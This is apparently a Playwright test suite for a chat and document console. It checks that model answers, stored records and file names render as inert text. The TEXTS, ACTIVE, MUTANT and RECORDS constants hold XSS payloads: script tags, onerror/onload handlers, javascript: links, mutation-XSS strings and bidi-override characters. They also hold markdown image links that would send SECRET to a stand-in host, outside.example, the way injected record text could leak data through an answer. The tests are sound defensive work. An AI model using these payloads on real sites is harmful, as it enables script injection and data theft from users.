"""What a model writes, and what records and names hold, is read and never obeyed: no script runs, no picture is fetched,
no address hides where it leads. Row D3 of the threats.

The fake engine answers with what it is asked, so that each test says what "the model" writes.
"""

import uuid
from urllib.parse import quote

import pytest
from house import Response, Server
from playwright.sync_api import Page, expect
from visit import City, Visit, asked

OUTSIDE = "https://outside.example"

TEXTS = {
    "script": f"<script>window.hit=1</script><script src={OUTSIDE}/x.js></script>",
    "handlers": f"<img src={OUTSIDE}/x.png onerror='window.hit=1'><svg onload='window.hit=1'></svg><details ontoggle=window.hit=1 open>",
    "frames": f"<iframe src={OUTSIDE}></iframe><object data={OUTSIDE}></object><embed src={OUTSIDE}><link rel=stylesheet href={OUTSIDE}/x.css>",
    "style": f'<style>body{{background:url({OUTSIDE}/bg)}}</style><p style="background:url({OUTSIDE}/p)">x</p>',
    "pictures": f"![기밀]({OUTSIDE}/?q=SECRET) ![x][1]\n\n[1]: {OUTSIDE}/ref.png",
    "form": f"<form action={OUTSIDE}><input name=q value=SECRET></form><meta http-equiv=refresh content='0;url={OUTSIDE}'><base href={OUTSIDE}>",
    "addresses": "[a](javascript:window.hit=1) [b](data:text/html,<script>window.hit=1</script>) [c](java&#115;cript:window.hit=1) <javascript:window.hit=1>",
    "formula": f"$\\href{{javascript:window.hit=1}}{{x}}$ $\\includegraphics{{{OUTSIDE}/f.png}}$ $\\style{{background:url({OUTSIDE})}}{{x}}$",
    "table": f"| a | b |\n|---|---|\n| <img src={OUTSIDE}/t.png> | ![x]({OUTSIDE}/t2.png) |",
    "code": f"```html\n<script>window.hit=1</script><img src={OUTSIDE}/c.png>\n```",
}


# What no text may make. The console's own icons and scripts are told apart.
FOREIGN = "img, svg:not(.icon, [aria-hidden]), script:not([src^='/']), iframe, object, embed, style, form[action], base"


def nothing_ran(page: Page) -> None:
    # Whatever was going to be fetched or run has its turn.
    page.evaluate("() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))")
    assert page.evaluate("window.hit") is None


@pytest.mark.parametrize("name", TEXTS)
def test_nothing_that_a_model_writes_runs_or_leaves(city: City, visit: Visit, name: str) -> None:
    page = visit.page(city.reader)
    asked(page, TEXTS[name], "fake")
    expect(page.locator(".prose")).to_be_visible()
    nothing_ran(page)
    assert (
        page.locator(
            ".answer :is(img, svg:not(.icon), script, iframe, object, embed, link, style, form, base, meta, details)"
        ).count()
        == 0
    )
    assert page.locator(".answer [style*=url], .answer [onerror], .answer [onload]").count() == 0
    assert [href for href in hrefs(page) if not href.startswith(("https://", "mailto:"))] == []


def test_a_link_says_where_it_leads_and_gives_nothing_away(city: City, visit: Visit) -> None:
    page = visit.page(city.reader)
    asked(page, "[은행](https://xn--pple-43d.example/login) 과 https://law.example/제15조", "fake")
    link = page.locator(".prose a").first
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(link).to_have_attribute("target", "_blank")
    expect(page.locator(".prose .host").first).to_have_text("xn--pple-43d.example")
    assert len(hrefs(page)) == 2


def test_text_cannot_be_turned_around(city: City, visit: Visit) -> None:
    page = visit.page(city.reader)
    asked(page, "보내는 곳: \u202egpj.txt\u2066\u200f", "fake")
    shown = page.locator(".answer").inner_text() + page.locator(".question").inner_text()
    assert not set(shown) & {"\u202e", "\u2066", "\u200f"}


def test_what_an_answer_is_good_for_is_still_shown(city: City, visit: Visit) -> None:
    page = visit.page(city.reader)
    asked(
        page,
        "**표**\n\n| 이름 | 값 |\n|---|---:|\n| 가 | 1 |\n\n```python\nprint(1)\n```\n\n- 하나\n\n$\\frac{1}{2}$",
        "fake",
    )
    prose = page.locator(".prose")
    expect(prose.locator("strong")).to_have_text("표")
    expect(prose.locator("td").nth(1)).to_have_text("1")
    expect(prose.locator("pre")).to_have_text("print(1)")
    expect(prose.locator("ul li")).to_have_text("하나")
    expect(prose.locator("math mfrac")).to_be_attached()


# Records as somebody may have written them: each holds the word 갈매기, and something that would run where it is HTML.
ACTIVE = f"<img src={OUTSIDE}/s.png onerror='window.hit=1'><script>window.hit=1</script>"
MUTANT = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.hit=1&gt;'>"
    "<svg><annotation-xml encoding='text/html'><style></annotation-xml><img src=x onerror=window.hit=1></style>"
)
RECORDS = {
    "markdown.md": f"# 갈매기 {ACTIVE}\n\n갈매기는 [여기](javascript:window.hit=1)에 있다. ![x]({OUTSIDE}/m.png)\n\n{ACTIVE}\n",
    "page.html": f"<title>갈매기 &lt;img src=x onerror=window.hit=1&gt;</title><h1>갈매기</h1><p>갈매기는 바다에 있다.</p>{ACTIVE}",
    "mutant.html": f"<h1>갈매기 둘</h1><p>갈매기는 섬에 있다.</p>{MUTANT}",
    "entities.html": "<h1>갈매기 셋</h1><p>갈매기 &lt;script&gt;window.hit=1&lt;/script&gt; &lt;svg onload=window.hit=1&gt;</p>",
    "picture.svg": f"<svg xmlns='http://www.w3.org/2000/svg' onload='window.hit=1'><text>갈매기</text>{ACTIVE}</svg>",
    "table.csv": f"이름,값\n갈매기,{ACTIVE}\n",
    "lines.json": '{"새": "갈매기", "값": "<svg onload=window.hit=1>"}',
    "<img src=x onerror=window.hit=1>.md": "# 갈매기 넷\n\n갈매기는 이름에도 있다.\n",
    "<svg onload=window.hit=1>/갈매기.txt": "갈매기는 폴더에도 있다.\n",
}


def stored(server: Server, key: str, method: str, path: str, body: object) -> Response:
    return server.request(method, f"/api/v1/{path}", body, {"Authorization": f"Bearer {key}"})


def test_nothing_that_records_and_names_hold_runs_or_leaves(city: City, visit: Visit) -> None:
    """Every page that shows what somebody stored, as somebody else sees it."""
    server, key = city.server, city.administrator
    corpus, label = "gulls-" + uuid.uuid4().hex[:6], {"class": "open", "purposes": ["answering"], "residency": ["KR"]}
    assert stored(server, key, "POST", "corpora", {"name": corpus, "title": ACTIVE, **label}).status == 200
    for name, text in RECORDS.items():
        put = stored(server, key, "POST", f"corpora/{corpus}/files?path={quote(name)}", text.encode())
        assert put.status == 200, (name, put.body)
    documents = stored(server, key, "GET", f"corpora/{corpus}/documents", None).json()["data"]
    assert len(documents) >= 7, documents
    for kind, body in [
        ("groups", {"name": ACTIVE}),
        ("people", {"name": ACTIVE}),
        ("keys", {"name": ACTIVE}),
        ("routes", {"name": corpus, "model": "fake", "corpora": [corpus], "instructions": ACTIVE}),
        ("conversations", {"title": ACTIVE}),
    ]:
        # A name may be refused for what it holds; what is taken must be shown as text.
        assert stored(server, key, "POST", kind, body).status in (200, 201, 400), kind
    # A name that is called stands in a receipt, whether it is one or not.
    named = server.request("POST", "/v1/chat/completions", {"model": ACTIVE, "messages": [{"role": "user", "content": "x"}]}, {"Authorization": f"Bearer {key}"})
    assert named.status == 404
    receipt = stored(server, key, "GET", "receipts?outcome=refused", None).json()["data"][0]
    assert receipt["asked"] == ACTIVE[:128]
    page = visit.page(key)
    shown = ""
    places = [f"records/{corpus}/document?id={document['id']}" for document in documents]
    guards = ["receipts", f"receipts/{receipt['id']}", "policies", "masking"]
    for place in ["records", f"records/{corpus}", *places, *guards, "access", "routes", "models", "health", "jobs", ""]:
        page.goto(f"{server.url}/#/{place}")
        page.reload()
        expect(page.locator("main h1, main h2").first).to_be_visible()
        page.wait_for_load_state("networkidle")
        nothing_ran(page)
        shown += page.locator("body").inner_text()
        assert page.locator(f"body :is({FOREIGN})").count() == 0, place
        assert page.locator("[onerror], [onload], a[href^='javascript:'], a[href^='data:']").count() == 0, place
    for text in (ACTIVE, "<script>window.hit=1</script>", "<svg onload=window.hit=1>", "![x]("):
        assert text in shown, f"what was stored is shown as it is: {text}"
    page.goto(f"{server.url}/#/records/{corpus}?tab=search")
    page.get_by_role("searchbox", name="검색").fill("갈매기")
    page.keyboard.press("Enter")
    expect(page.locator(".hits tbody tr").first).to_contain_text("갈매기")
    nothing_ran(page)
    page.goto(f"{server.url}/#/")
    asked(page, "갈매기는 어디에 있나요?", corpus)
    expect(page.locator(".prose")).to_be_visible()
    nothing_ran(page)
    assert page.locator(f"body :is({FOREIGN})").count() == 0


def test_an_answer_makes_no_request_outside(city: City, visit: Visit) -> None:
    """Row G1: what a record has an answer say is read as words, and nothing is fetched, in the answer and when it is opened again."""
    server, key = city.server, city.administrator
    corpus, label = "nets-" + uuid.uuid4().hex[:6], {"class": "open", "purposes": ["answering"], "residency": ["KR"]}
    assert stored(server, key, "POST", "corpora", {"name": corpus, "title": "그물", **label}).status == 200
    told = f"갈매기 그물은 ![그물]({OUTSIDE}/?q=SECRET) [여기]({OUTSIDE}/a) <img src={OUTSIDE}/i> {OUTSIDE}/bare 에 있다."
    put = stored(server, key, "POST", f"corpora/{corpus}/files?path=a.txt", told.encode())
    assert put.status == 200, put.body
    route = {"name": corpus, "model": "fake", "corpora": [corpus], "mode": "extractive"}
    assert stored(server, key, "POST", "routes", route).status in (200, 201)
    page = visit.page(city.reader)
    requests: list[str] = []
    page.context.on("request", lambda request: requests.append(request.url))
    asked(page, "갈매기 그물은 어디에 있나요?", corpus)
    for _ in range(2):
        prose = page.locator(".prose").last
        expect(prose).to_contain_text("⟨outside[.]example⟩")
        nothing_ran(page)
        assert "SECRET" not in prose.inner_text()
        assert page.locator(".answer img").count() == 0
        assert [href for href in hrefs(page) if "outside" in href] == []
        # The conversation is opened again: what was kept of it is shown.
        page.reload()
        page.wait_for_load_state("networkidle")
    assert requests and [url for url in requests if not url.startswith((f"{server.url}/", "blob:"))] == []


def hrefs(page) -> list[str]:
    return page.locator(".answer a").evaluate_all("links => links.map(link => link.getAttribute('href'))")
